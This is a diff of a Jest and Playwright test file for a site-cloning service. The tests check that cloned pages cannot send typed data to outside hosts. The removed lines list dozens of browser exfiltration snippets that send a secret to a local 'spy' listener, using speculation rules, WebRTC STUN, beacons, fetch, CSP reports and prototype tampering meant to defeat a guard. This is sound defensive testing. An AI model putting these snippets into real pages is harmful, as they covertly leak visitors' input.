@@ -1,273 +1,82 @@
-import { createSocket, type Socket } from 'node:dgram';
-import { createServer, type Server } from 'node:http';
-import type { AddressInfo } from 'node:net';
 import { afterAll, beforeAll, describe, expect, it, jest } from '@jest/globals';
 import type { Browser } from 'playwright-core';
 import { type CloneHostsApp, startCloneHosts } from './support/clone-hosts.ts';
 import { openChromium } from './support/open-chromium.ts';
+import { type Listener, outside, startListener, toldBy } from './support/telling-pages.ts';
 
 // Chromium starts, beside whatever else the machine does.
 jest.setTimeout(240_000);
 
-const html = (body: string) => ({ body, type: 'text/html; charset=utf-8' });
-const SECRET = 'maria-digitou-isto';
-
 let hosts: CloneHostsApp;
 let browser: Browser;
-/** Whoever would like to hear of visitors: over TCP, counted as connections and requests, and over UDP. */
-let collector: Server;
-let stun: Socket;
-let arrivals: string[];
+let listener: Listener;
 beforeAll(async () => {
-  hosts = await startCloneHosts();
-  browser = await openChromium();
-  arrivals = [];
-  collector = createServer((request, response) => {
-    arrivals.push(
-      `${request.method} ${request.headers.host} ${request.url} ${request.headers.referer ?? ''}`,
-    );
-    response.setHeader('access-control-allow-origin', '*');
-    response.end('<title>fora</title>');
-  });
-  collector.on('connection', () => arrivals.push('connection'));
-  await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve));
-  stun = createSocket('udp4').on('message', () => arrivals.push('stun'));
-  await new Promise<void>((resolve) => stun.bind(0, '127.0.0.1', resolve));
+  [hosts, browser, listener] = await Promise.all([startCloneHosts(), openChromium(), startListener()]);
 });
 afterAll(async () => {
   await browser.close();
-  collector.closeAllConnections();
-  await new Promise((resolve) => collector.close(resolve));
-  stun.close();
+  await listener.close();
   await hosts.close();
 });
 
-const port = () => (collector.address() as AddressInfo).port;
-/** A secure place in a browser's eyes, as any address of https is. */
-const out = (name: string) => `http://${name}.fora.localhost:${port()}`;
+/** One for each thing that the guard or the policy of a clone does; `npm run test:deep` tries all that there are. */
+const WAYS = [
+  'speculation rules',
+  'speculation rules in the page',
+  'prefetch',
+  'preconnect',
+  'preconnect in the page',
+  'preconnect by attribute',
+  'preconnect by attribute node',
+  'preconnect by markup',
+  'webrtc',
+  'webrtc of a frame',
+  'webrtc of a custom element beside a frame',
+  'a window',
+  'a window of a frame',
+  'location',
+  'location of a frame for the top',
+  'a listed address with more in it',
+  'a listed address with what stands in the page address',
+  'a listed address with what the page has led itself to',
+  'a listed address from a frame that has it',
+  'methods of lists replaced',
+  'functions of the guard',
+  'an app that falls back',
+  'a policy that reports',
+  'a manifest',
+  'a style of the typed',
+  'a notification of data',
+  'a link for a new window',
+  'a link in no page',
+  'an event at a link',
+  'a link that changes under the press',
+  'ping',
+  'meta refresh in the page',
+  'a form',
+  'beacon',
+  'fetch',
+  'image',
+  'worker',
+  'frame of data',
+];
 
-/** What a page does with what was typed, by way: markup that stands in the page, or a script that runs when it is there. */
-const WAYS: Record<string, (to: string) => { markup?: string; script?: string }> = {
-  'speculation rules': () => ({
-    script: `add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [spy + '?d=' + secret], eagerness: 'immediate' }], prerender: [{ urls: [spy + '?d=' + secret], eagerness: 'immediate' }] }) })`,
-  }),
-  'speculation rules in the page': (to) => ({
-    markup: `<script type="speculationrules">{"prefetch":[{"urls":["${to}"],"eagerness":"immediate"}]}</script>`,
-  }),
-  'speculation rules that change': () => ({
-    script: `const one = document.createElement('script'); one.textContent = JSON.stringify({ prefetch: [{ urls: [spy + '?d=' + secret], eagerness: 'immediate' }] }); one.type = 'speculationrules'; document.head.insertAdjacentElement('beforeend', one)`,
-  }),
-  prefetch: () => ({ script: `add('link', { rel: 'prefetch', href: spy + '?d=' + secret })` }),
-  prerender: () => ({ script: `add('link', { rel: 'prerender', href: spy + '?d=' + secret })` }),
-  preload: () => ({ script: `add('link', { rel: 'preload', as: 'image', href: spy + '?d=' + secret })` }),
-  preconnect: () => ({ script: `add('link', { rel: 'preconnect', href: spy })` }),
-  'preconnect in the page': (to) => ({ markup: `<link rel="preconnect" href="${to}">` }),
-  'preconnect by attribute': () => ({
-    script: `const one = add('link', { rel: 'x', href: spy }); one.setAttribute('rel', 'preconnect')`,
-  }),
-  'preconnect by attribute node': () => ({
-    script: `const one = add('link', { rel: 'x', href: spy }); one.getAttributeNode('rel').nodeValue = 'preconnect'; one.attributes.rel.textContent = 'preconnect'`,
-  }),
-  'preconnect by markup': () => ({
-    script: `document.body.insertAdjacentHTML('beforeend', '<link rel=preconnect href="' + spy + '">')`,
-  }),
-  'preconnect by write': (to) => ({
-    markup: `<script>document.write('<link rel=preconnect href="${to}">')</script>`,
-  }),
-  webrtc: () => ({
-    script: `const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:STUN' }] }); pc.createDataChannel('a'); pc.createOffer().then((o) => pc.setLocalDescription(o))`,
-  }),
-  'webrtc of a frame': () => ({
-    script: `const f = add('iframe', {}); const RTC = f.contentWindow.RTCPeerConnection; const pc = new RTC({ iceServers: [{ urls: 'stun:127.0.0.1:STUN' }] }); pc.createDataChannel('a'); pc.createOffer().then((o) => pc.setLocalDescription(o))`,
-  }),
-  'webrtc of a numbered frame': () => ({
-    script: `document.body.innerHTML += '<div><iframe></iframe></div>'; const pc = new window[0].RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:STUN' }] }); pc.createDataChannel('a'); pc.createOffer().then((o) => pc.setLocalDescription(o))`,
-  }),
-  'webrtc of a frame in the page': () => ({
-    markup: `<iframe></iframe><script>try { const pc = new window[0].RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:STUN' }] }); pc.createDataChannel('a'); pc.createOffer().then((o) => pc.setLocalDescription(o)) } catch {}</script>`,
-  }),
-  'webrtc of a frame by its load': () => ({
-    script: `window.go = (w) => { const pc = new w.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:STUN' }] }); pc.createDataChannel('a'); pc.createOffer().then((o) => pc.setLocalDescription(o)) }; const d = document.createElement('div'); const f = document.createElement('iframe'); f.onload = () => go(window[0]); d.append(f); document.body.append(d)`,
-  }),
-  'webrtc of a custom element beside a frame': () => ({
-    script: `customElements.define('x-a', class extends HTMLElement { connectedCallback() { const pc = new window[0].RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:STUN' }] }); pc.createDataChannel('a'); pc.createOffer().then((o) => pc.setLocalDescription(o)) } }); const d = document.createElement('div'); d.append(document.createElement('iframe'), document.createElement('x-a')); document.body.append(d)`,
-  }),
-  'webrtc of a written frame': () => ({
-    script: `const f = add('iframe', { srcdoc: "<script>const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:STUN' }] }); pc.createDataChannel('a'); pc.createOffer().then((o) => pc.setLocalDescription(o))<" + "/script>" })`,
-  }),
-  'a window': () => ({ script: `open(spy + '?d=' + secret)` }),
-  'a window of its own': () => ({ script: `const w = open(''); w.location = spy + '?d=' + secret` }),
-  'a window of a frame': () => ({ script: `add('iframe', {}).contentWindow.open(spy + '?d=' + secret)` }),
-  location: () => ({ script: `location.href = spy + '?d=' + secret` }),
-  'location of a frame for the top': () => ({
-    script: `const f = add('iframe', {}); f.contentWindow.eval("top.location.assign(top.spy + '?d=' + top.secret)")`,
-  }),
-  'a listed address with more in it': () => ({
-    script: `location.href = listed + '?d=' + secret + '#' + secret`,
-  }),
-  'a listed address with what stands in the page address': () => ({
-    script: `history.replaceState(null, '', '?d=' + secret); location.href = listed + '?d=' + secret`,
-  }),
-  'a listed address with what the page has led itself to': () => ({
-    script: `if (location.search === '') location.href = '/?d=' + secret; else location.href = listed + '?d=' + secret`,
-  }),
-  'a listed address from a frame that has it': () => ({
-    script: `if (top === window) add('iframe', { src: '/?d=' + secret }); else { open(listed + '?d=' + secret); add('a', { href: listed + '?d=' + secret, target: '_blank' }).click() }`,
-  }),
-  'methods of lists replaced': () => ({
-    script: `Array.prototype.some = () => true; Array.prototype.filter = function () { return this }; location.href = spy + '?d=' + secret`,
-  }),
-  'listeners that are told to stop': () => ({
-    script: `Object.prototype.signal = AbortSignal.abort(); Object.prototype.once = true; const f = add('iframe', {}); const a = f.contentDocument.createElement('a'); a.href = spy + '?d=' + secret; a.target = '_blank'; f.contentDocument.body.append(a); delete Object.prototype.signal; setTimeout(() => a.click(), 50)`,
-  }),
-  'descriptors that break': () => ({
-    script: `Object.prototype.get = () => 1; Object.prototype.attributeFilter = 1; try { add('iframe', {}) } catch {} delete Object.prototype.get; delete Object.prototype.attributeFilter; const pc = new window[0].RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:STUN' }] }); pc.createDataChannel('a'); pc.createOffer().then((o) => pc.setLocalDescription(o))`,
-  }),
-  'functions of the guard': () => ({
-    script: `const a = add('a', { href: '#', target: '_blank' }); a.addEventListener('click', (e) => { const F = e.preventDefault.constructor; if (F !== Function) F('return Set.prototype')().has = () => true; }); a.click(); setTimeout(() => { location.href = listed + '?d=' + secret }, 200)`,
-  }),
-  'an app that falls back': () => ({
-    script: `location.href = 'intent://send#Intent;scheme=x;S.browser_fallback_url=' + encodeURIComponent(spy + '?d=' + secret) + ';end'`,
-  }),
-  'a window of code': () => ({
-    script: `open('javascript:location="' + spy + '?d=' + secret + '"'); add('a', { href: 'javascript:open("' + spy + '?d=' + secret + '")', target: '_blank' }).click()`,
-  }),
-  'a policy that reports': (to) => ({
-    markup: `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri ${to}">`,
-    script: `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'Content-Security-Policy', content: "font-src 'none'; report-uri " + spy + '?d=' + secret })); new Image().src = '/nao.png'`,
-  }),
-  'a map of modules': () => ({
-    script: `add('script', { type: 'importmap', textContent: JSON.stringify({ imports: { x: spy + '?d=' + secret } }) }); import('x').catch(() => {})`,
-  }),
-  'a shared worker': () => ({
-    script: `new SharedWorker('data:text/javascript,' + encodeURIComponent("fetch('" + spy + '?d=' + secret + "', { mode: 'no-cors' })"))`,
-  }),
-  'web transport': () => ({ script: `new WebTransport(spy.replace('http:', 'https:') + '?d=' + secret)` }),
-  'a payment': () => ({
-    script: `new PaymentRequest([{ supportedMethods: spy + '?d=' + secret }], { total: { label: 'x', amount: { currency: 'BRL', value: '1' } } }).canMakePayment().catch(() => {})`,
-  }),
-  'a sign-in of others': () => ({
-    script: `navigator.credentials.get({ identity: { providers: [{ configURL: spy + '?d=' + secret, clientId: 'x' }] } }).catch(() => {})`,
-  }),
-  'a manifest': () => ({
-    script: `document.head.append(Object.assign(document.createElement('link'), { rel: 'manifest', href: spy + '?d=' + secret }))`,
-  }),
-  'a drawing of others': () => ({
-    script: `document.body.insertAdjacentHTML('beforeend', '<svg><use href="' + spy + '?d=' + secret + '#a"/><image href="' + spy + '?d=' + secret + '"/></svg>')`,
-  }),
-  'a form in a root': () => ({
-    script: `const r = add('div', {}).attachShadow({ mode: 'closed' }); r.innerHTML = '<form action="' + spy + '?d=' + secret + '" target=_blank><button>x</button></form>'; r.querySelector('button').click()`,
-  }),
-  'a button with an address': () => ({
-    script: `const f = add('form', {}); const b = Object.assign(document.createElement('button'), { formAction: spy + '?d=' + secret, formTarget: '_blank' }); f.append(b); b.click()`,
-  }),
-  'a style of the typed': () => ({
-    script: `document.head.append(Object.assign(document.createElement('style'), { textContent: '@import url(' + spy + '?d=' + secret + '); body { cursor: url(' + spy + '?d=' + secret + '), auto; list-style-image: url(' + spy + '?d=' + secret + ') } @font-face { font-family: z; src: url(' + spy + '?d=' + secret + ') } p { font-family: z }' })); add('p', { textContent: 'x' })`,
-  }),
-  'an icon': () => ({
-    script: `document.head.append(Object.assign(document.createElement('link'), { rel: 'icon', href: spy + '?d=' + secret }))`,
-  }),
-  'a notification of data': () => ({
-    script: `document.body.insertAdjacentHTML('beforeend', '<video poster="' + spy + '?d=' + secret + '" src="' + spy + '?d=' + secret + '" autoplay></video><audio src="' + spy + '?d=' + secret + '"></audio><embed src="' + spy + '?d=' + secret + '"><object data="' + spy + '?d=' + secret + '"></object>')`,
-  }),
-  'a link that is pressed by script': () => ({ script: `add('a', { href: spy + '?d=' + secret }).click()` }),
-  'a link for a new window': () => ({
-    script: `add('a', { href: spy + '?d=' + secret, target: '_blank' }).click()`,
-  }),
-  'a link in no page': () => ({
-    script: `Object.assign(document.createElement('a'), { href: spy + '?d=' + secret, target: '_blank' }).click()`,
-  }),
-  'a link that changes under the press': () => ({
-    script: `const a = add('a', { href: listed, target: '_blank' }); a.addEventListener('click', () => { a.href = spy + '?d=' + secret }); a.click()`,
-  }),
-  'an event at a link': () => ({
-    script: `Object.assign(document.createElement('a'), { href: spy + '?d=' + secret, target: '_blank' }).dispatchEvent(new MouseEvent('click'))`,
-  }),
-  ping: () => ({ script: `add('a', { href: '#', ping: spy + '?d=' + secret }).click()` }),
-  'meta refresh': () => ({
-    script: `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + spy + '?d=' + secret }))`,
-  }),
-  'meta refresh in the page': (to) => ({ markup: `<meta http-equiv="refresh" content="0;url=${to}">` }),
-  'a form': () => ({
-    script: `const f = add('form', { action: spy + '?d=' + secret, method: 'get', target: '_blank' }); HTMLFormElement.prototype.submit.call(f); f.requestSubmit()`,
-  }),
-  beacon: () => ({ script: `navigator.sendBeacon(spy, secret)` }),
-  fetch: () => ({
-    script: `fetch(spy + '?d=' + secret, { mode: 'no-cors', keepalive: true }).catch(() => {})`,
-  }),
-  'fetch of a frame': () => ({
-    script: `add('iframe', {}).contentWindow.fetch(spy + '?d=' + secret, { mode: 'no-cors' }).catch(() => {})`,
-  }),
-  image: () => ({ script: `new Image().src = spy + '?d=' + secret` }),
-  'image of a style': () => ({
-    script: `document.body.style.background = 'url(' + spy + '?d=' + secret + ')'`,
-  }),
-  font: () => ({ script: `new FontFace('x', 'url(' + spy + '?d=' + secret + ')').load().catch(() => {})` }),
-  import: () => ({ script: `import(spy + '?d=' + secret).catch(() => {})` }),
-  events: () => ({ script: `new EventSource(spy + '?d=' + secret)` }),
-  socket: () => ({ script: `new WebSocket(spy + '?d=' + secret)` }),
-  worker: () => ({
-    script: `new Worker(URL.createObjectURL(new Blob(["fetch('" + spy + '?d=' + secret + "', { mode: 'no-cors' }).catch(() => {}); try { importScripts('" + spy + "') } catch {}; try { new RTCPeerConnection() } catch {}"])))`,
-  }),
-  'worker of data': () => ({
-    script: `new Worker('data:text/javascript,' + encodeURIComponent("fetch('" + spy + '?d=' + secret + "', { mode: 'no-cors' })"))`,
-  }),
-  frame: () => ({ script: `add('iframe', { src: spy + '?d=' + secret })` }),
-  'frame of data': () => ({
-    script: `add('iframe', { src: 'data:text/html,' + encodeURIComponent('<img src="' + spy + '?d=' + secret + '"><script>location="' + spy + '"</scr' + 'ipt>') })`,
-  }),
-  'frame of a blob': () => ({
-    script: `add('iframe', { src: URL.createObjectURL(new Blob(['<script>top.location="' + spy + '"</scr' + 'ipt>'], { type: 'text/html' })) })`,
-  }),
-  'link in a drawing': () => ({
-    script: `document.body.insertAdjacentHTML('beforeend', '<svg><a id=q href="' + spy + '?d=' + secret + '" target=_blank><text y=20>x</text></a></svg>'); document.getElementById('q').dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, view: window }))`,
-  }),
-};
-
-const listed = () => `${out('oferta')}/checkout`;
-
-async function publish(way: string): Promise<string> {
-  const stunPort = String((stun.address() as AddressInfo).port);
-  const { markup = '', script = '' } = WAYS[way]?.(`${out('espia')}/x`) ?? {};
-  const page = `<!doctype html><html><head><title>dentro</title>${markup}</head><body><a id="compra" href="${listed()}">Comprar</a>
-<script>window.listed = document.getElementById('compra').href; window.secret = '${SECRET}'; window.spy = atob('${btoa(`${out('espia')}/x`)}');
-const add = (name, more) => { const one = Object.assign(document.createElement(name), more); document.body.append(one); return one; };
-onload = () => setTimeout(() => { try { ${script.replaceAll('STUN', stunPort)} } catch (error) { window.failed = String(error); } }, 50);
-</script></body></html>`;
-  const clone = await hosts.publish({ '/': html(page.replaceAll('STUN', stunPort)) });
-  return `http://${clone.name}.localhost:${new URL(hosts.app.url).port}/`;
-}
-
-describe('a clone sends nothing', () => {
-  it.each(Object.keys(WAYS))('by %s', async (way) => {
-    arrivals = [];
-    const context = await browser.newContext();
-    const page = await context.newPage();
-    await page.goto(await publish(way));
-    // What is not sent leaves nothing to wait for: with nothing in the way all of these arrive within half of it.
-    await new Promise((resolve) => setTimeout(resolve, 1_200));
-    await context.close();
-    const told = arrivals.filter(
-      (one) => one !== 'connection' && !one.startsWith('GET oferta.fora.localhost'),
-    );
-    // To a listed address a visitor may be led, with nothing that it did not have.
-    const led = arrivals.filter((one) => one.startsWith('GET oferta.fora.localhost'));
-    expect(led.filter((one) => one.includes(SECRET))).toEqual([]);
-    expect(told).toEqual([]);
-    if (led.length === 0) expect(arrivals).toEqual([]);
+describe('a clone', () => {
+  it('sends nothing out, by any of the ways that are shut', async () => {
+    expect(await toldBy(hosts, browser, WAYS)).toEqual({});
   });
 
-  it('but its links lead where they led, with what the visitor came with', async () => {
-    const offer = `${out('oferta')}/checkout?off=1`;
-    const clone = await hosts.publish({
-      '/': html(`<meta name="referrer" content="unsafe-url"><a id="same" href="${offer}">Comprar</a><a id="new" target="_blank" href="${offer}">Nova</a>
+  it('has links that lead where they led, with what the visitor came with', async () => {
+    const offer = `${outside('oferta', listener)}/checkout?off=1`;
+    const body = `<meta name="referrer" content="unsafe-url"><a id="same" href="${offer}">Comprar</a><a id="new" target="_blank" href="${offer}">Nova</a>
 <button onclick="location.href = '${offer}&' + location.search.slice(1)">Quero</button>
-<a id="pay" target="_blank" href="http://pay.hotmart.com:${port()}/A1?email=a%40b.test">Hotmart</a>`),
-    });
+<a id="pay" target="_blank" href="http://pay.hotmart.com:${listener.port}/A1?email=a%40b.test">Hotmart</a>`;
+    const clone = await hosts.publish({ '/': { body, type: 'text/html; charset=utf-8' } });
     const address = `http://${clone.name}.localhost:${new URL(hosts.app.url).port}/?utm_source=anuncio`;
     const led: string[] = [];
+    const { arrivals } = listener;
     for (const pressed of ['#same', '#new', 'button', '#pay']) {
-      arrivals = [];
+      arrivals.length = 0;
       const context = await browser.newContext();
       const page = await context.newPage();
       await page.goto(address);
@@ -278,7 +87,7 @@ describe('a clone sends nothing', () => {
       await context.close();
     }
     const origin = new URL(address).origin;
-    const host = `oferta.fora.localhost:${port()}`;
+    const host = `oferta.fora.localhost:${listener.port}`;
     expect(led).toEqual([
       `GET ${host} /checkout?off=1 ${origin}/`,
       expect.stringMatching(new RegExp(`^GET ${host} /checkout\\?off=1 `)),
